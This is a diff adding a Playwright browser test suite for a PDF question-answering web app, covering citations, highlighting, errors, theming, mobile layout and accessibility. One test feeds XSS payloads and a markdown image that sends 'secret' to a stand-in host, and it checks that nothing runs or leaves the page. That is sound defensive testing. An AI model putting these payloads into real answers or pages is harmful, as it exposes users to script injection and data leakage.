@@ -1,0 +1,271 @@
+"""The page in a real Chromium, against the real app in a process of its own."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pypdfium2
+import pytest
+
+from tests.builders import paragraph, pdf
+from tests.loopback import Events, LoopbackServer, Reply, Say, Status, chunk, listed_model
+from tests.ui.conftest import running_app
+
+playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+from playwright.sync_api import Browser, Page, expect, sync_playwright  # noqa: E402
+
+CHROMIUM = Path("/usr/bin/chromium")
+ARGUMENTS = [
+    *("--no-sandbox", "--disable-gpu", "--disable-background-networking"),
+    *("--disable-component-update", "--disable-sync", "--no-first-run"),
+]
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is not there"),
+]
+
+QUESTION = "How many boats does the harbour of Sainte-Maxime hold in winter?"
+QUOTE = "The harbour of Sainte-Maxime holds forty-one boats in winter."
+PAGES = [
+    paragraph("A guide to the harbours of the coast.", "It was written for sailors."),
+    paragraph(
+        "Most harbours are small and close when the wind blows from the north.",
+        "They are named after saints. " + QUOTE[:34],
+        QUOTE[35:] + " In summer there are more of them.",
+        "Nobody has counted the boats of the other harbours.",
+    ),
+]
+WRITTEN = "In  winter  the  harbour  of  Sainte-Maxime  holds  many  boats,  and  in  summer  more."
+HOSTILE_NAME = "<img src=x onerror=alert(1)>"
+HOSTILE = (
+    "Forty-one [1]. ![x](http://198.51.100.7/leak?q=secret) <img src=http://198.51.100.7/i "
+    "onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1)) "
+    "![y](/gradio_api/file=http://198.51.100.7/z)"
+)
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[LoopbackServer]:
+    with LoopbackServer(served=[listed_model("local-model")]) as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def address(server: LoopbackServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    settings = {"TRAMONTANE_SAMPLES": "false", "TRAMONTANE_CHAT": f"{server.url}/v1"}
+    with running_app(tmp_path_factory.mktemp("browser"), settings) as address:
+        yield address
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def page(browser: Browser, address: str, tmp_path: Path) -> Iterator[Page]:
+    """The page with the guide in its library; afterwards, nothing left it and nothing ran."""
+    page = browser.new_page(viewport={"width": 1440, "height": 900}, color_scheme="light")
+    page.set_default_timeout(10_000)
+    requests: list[str] = []
+    faults: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("pageerror", lambda error: faults.append(str(error)))
+    page.on("dialog", lambda dialog: faults.append(dialog.message))
+    page.goto(address)
+    add(page, tmp_path / "harbours.pdf", pdf(PAGES, title="Harbours of the coast"))
+    yield page
+    page.close()
+    hosts = {urlsplit(url).netloc for url in requests if not url.startswith(("data:", "blob:"))}
+    assert hosts == {urlsplit(address).netloc}
+    assert not [url for url in requests if "file=" in url or "proxy=" in url]
+    assert faults == []
+
+
+def add(page: Page, path: Path, content: bytes, title: str = "Harbours of the coast") -> None:
+    path.write_bytes(content)
+    expect(page.locator("#files")).to_be_attached()
+    page.set_input_files("#files", path)
+    expect(page.locator(".doc[data-id]", has_text=title)).to_be_visible(timeout=30_000)
+
+
+def ask(page: Page, question: str = QUESTION) -> None:
+    page.fill("#question textarea", question)
+    page.press("#question textarea", "Enter")
+
+
+def script(server: LoopbackServer, *replies: Reply) -> None:
+    server.scripts["/v1/chat/completions"].extend(replies)
+
+
+def words_under_highlight(page: Page, content: bytes, number: int) -> str:
+    """The text that pdfium finds inside the marked rectangles of the page image."""
+    boxes = page.evaluate(
+        """() => {
+          const sheet = document.querySelector('.sheet').getBoundingClientRect();
+          const x = at => (at - sheet.left) / sheet.width;
+          const y = at => (at - sheet.top) / sheet.height;
+          return [...document.querySelectorAll('.hl.open')]
+            .map(mark => mark.getBoundingClientRect())
+            .map(box => [x(box.left), y(box.top), x(box.right), y(box.bottom)]);
+        }"""
+    )
+    document = pypdfium2.PdfDocument(content)
+    pdf_page = document[number - 1]
+    width, height = pdf_page.get_size()
+    text = pdf_page.get_textpage()
+    found = [
+        text.get_text_bounded(
+            left * width, height - bottom * height, right * width, height - top * height
+        )
+        for left, top, right, bottom in boxes
+    ]
+    text.close()
+    pdf_page.close()
+    document.close()
+    return " ".join(" ".join(found).split())
+
+
+def test_a_citation_opens_on_the_exact_words(page: Page, server: LoopbackServer) -> None:
+    script(server, Say("In winter it holds forty-one boats [1]."))
+    ask(page)
+    chip = page.locator("#thread a.cite")
+    expect(chip).to_have_text("1", timeout=20_000)
+    expect(page.locator("article.turn")).to_have_class(re.compile("done"))
+    chip.focus()
+    page.keyboard.press("Enter")
+    expect(chip).to_have_attribute("aria-current", "true")
+    expect(page.locator("#source h2")).to_have_text("Harbours of the coast")
+    expect(page.locator("#source .pn")).to_have_text("p. 2 of 2")
+    image = page.locator(".sheet img")
+    page.wait_for_function("document.querySelector('.sheet img')?.naturalWidth > 0")
+    expect(image).to_have_attribute("alt", "Page 2 of Harbours of the coast")
+    marked = words_under_highlight(page, pdf(PAGES), 2)
+    assert "forty-one boats" in marked
+    assert marked in QUOTE
+    expect(page.locator(".qq b")).to_contain_text("forty-one boats")
+    page.get_by_role("button", name="Previous page").click()
+    expect(page.locator("#source .pn")).to_have_text("p. 1 of 2")
+    expect(page.locator(".hl")).to_have_count(0)
+    page.locator(".qq").click()
+    expect(page.locator("#source .pn")).to_have_text("p. 2 of 2")
+
+
+def test_nothing_in_an_answer_or_a_name_runs_or_leaves(
+    page: Page, server: LoopbackServer, tmp_path: Path
+) -> None:
+    content = pdf([paragraph(f"Nothing but {HOSTILE_NAME} is written here.")], title=HOSTILE_NAME)
+    add(page, tmp_path / f"{HOSTILE_NAME}.pdf", content, HOSTILE_NAME)
+    script(server, Say(HOSTILE))
+    ask(page)
+    expect(page.locator("article.turn.done .a")).to_contain_text("<script>", timeout=20_000)
+    assert page.locator("#thread img, #thread script, #documents img").count() == 0
+    assert page.locator("#thread a[href^='javascript']").count() == 0
+    page.locator(".doc[data-id]", has_text=HOSTILE_NAME).locator(".t").click()
+    expect(page.locator("#source h2")).to_have_text(HOSTILE_NAME)
+    assert page.locator("#source img").count() == 1  # the page itself
+    page.get_by_role("button", name=f"Remove {HOSTILE_NAME}").click()
+    page.locator("dialog .danger").click()
+    expect(page.locator(".doc[data-id]", has_text=HOSTILE_NAME)).to_have_count(0)
+
+
+def test_stopping_keeps_what_was_written_and_frees_the_box(
+    page: Page, server: LoopbackServer
+) -> None:
+    script(
+        server,
+        Events([chunk({"content": f"{word} "}) for word in WRITTEN.split("  ")], stalls=True),
+    )
+    ask(page)
+    expect(page.locator("article.turn.running .a")).to_contain_text("In winter", timeout=20_000)
+    page.get_by_role("button", name="Stop").click()
+    expect(page.locator("article.turn.stopped .a")).to_contain_text("In winter")
+    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()
+    server.closing.set()  # lets the connection go
+
+
+def test_a_failure_is_one_sentence_and_the_question_stays(
+    page: Page, server: LoopbackServer
+) -> None:
+    script(server, Status(401, {"error": {"message": "no", "type": "x", "code": 401}}))
+    ask(page)
+    expect(page.locator("article.turn.failed .error")).to_be_visible(timeout=20_000)
+    expect(page.locator("article.turn .q")).to_have_text(QUESTION)
+    script(server, Say("Forty-one [1]."))
+    page.get_by_role("button", name="Ask again").click()
+    expect(page.locator("article.turn.done .a")).to_contain_text("Forty-one", timeout=20_000)
+    expect(page.locator("article.turn")).to_have_count(1)
+
+
+def test_what_the_documents_do_not_say_shows_the_nearest_pages(page: Page) -> None:
+    page.get_by_label("Model").select_option(label="embedded reader · this computer")
+    ask(page, "Which enzyme unwinds the double helix during replication?")
+    expect(page.locator("article.turn.refused")).to_be_visible(timeout=20_000)
+    page.locator(".near").first.click()
+    expect(page.locator("#source h2")).to_have_text("Harbours of the coast")
+    expect(page.locator(".hl.seen").first).to_be_visible()
+
+
+def test_documents_can_be_left_out(page: Page) -> None:
+    box = page.get_by_role("checkbox", name="Ask Harbours of the coast")
+    box.click()
+    expect(box).to_have_attribute("aria-checked", "false")
+    expect(page.locator("#documents .h")).to_contain_text("0 of 1 asked")
+    ask(page)
+    expect(page.locator("article.turn.failed .error")).to_contain_text("Tick", timeout=20_000)
+    page.get_by_role("button", name="New conversation").click()
+    expect(page.locator("article.turn")).to_have_count(0)
+
+
+def test_a_file_that_cannot_be_read_says_why(page: Page, tmp_path: Path) -> None:
+    add(page, tmp_path / "broken.pdf", b"%PDF-1.4\nnothing", "broken.pdf")
+    row = page.locator(".doc[data-id]", has_text="broken.pdf")
+    expect(row.locator(".st")).to_have_text("damaged")
+    expect(row.locator(".why")).not_to_be_empty()
+    row.get_by_role("button", name="Remove").click()
+    page.locator("dialog .danger").click()
+    expect(row).to_have_count(0)
+
+
+def test_dark_is_remembered(page: Page) -> None:
+    page.get_by_role("button", name="Light or dark").click()
+    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
+    page.reload()
+    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
+    expect(page.locator("body")).to_have_css("background-color", "rgb(18, 23, 30)")
+
+
+def test_a_phone_shows_everything_without_sideways_scrolling(
+    page: Page, server: LoopbackServer
+) -> None:
+    page.set_viewport_size({"width": 390, "height": 844})
+    script(server, Say(f"Forty-one [1].\n\n| a | b |\n|---|---|\n| {'x' * 90} | 12 |\n"))
+    ask(page)
+    chip = page.locator("#thread a.cite")
+    expect(chip).to_be_visible(timeout=20_000)
+    expect(page.locator("article.turn")).to_have_class(re.compile("done"))
+    chip.click()
+    expect(page.locator(".hl.open").first).to_be_in_viewport()
+    page.keyboard.press("Escape")
+    expect(page.locator("#source")).not_to_be_visible()
+    page.get_by_role("button", name="Documents").click()
+    expect(page.locator("#files")).to_be_attached()
+    expect(page.locator(".doc .t").first).to_be_in_viewport()
+    assert page.evaluate("document.documentElement.scrollWidth") == 390
+    assert page.evaluate("document.querySelector('#thread').scrollWidth") <= 390
+
+
+def test_every_control_has_a_name(page: Page) -> None:
+    nameless = page.evaluate(
+        """() => [...document.querySelectorAll('button, select, textarea, input')]
+          .filter(control => !control.getAttribute('aria-label'))
+          .filter(control => !control.textContent.trim() && !control.labels?.length)
+          .map(control => control.outerHTML)"""
+    )
+    assert nameless == []
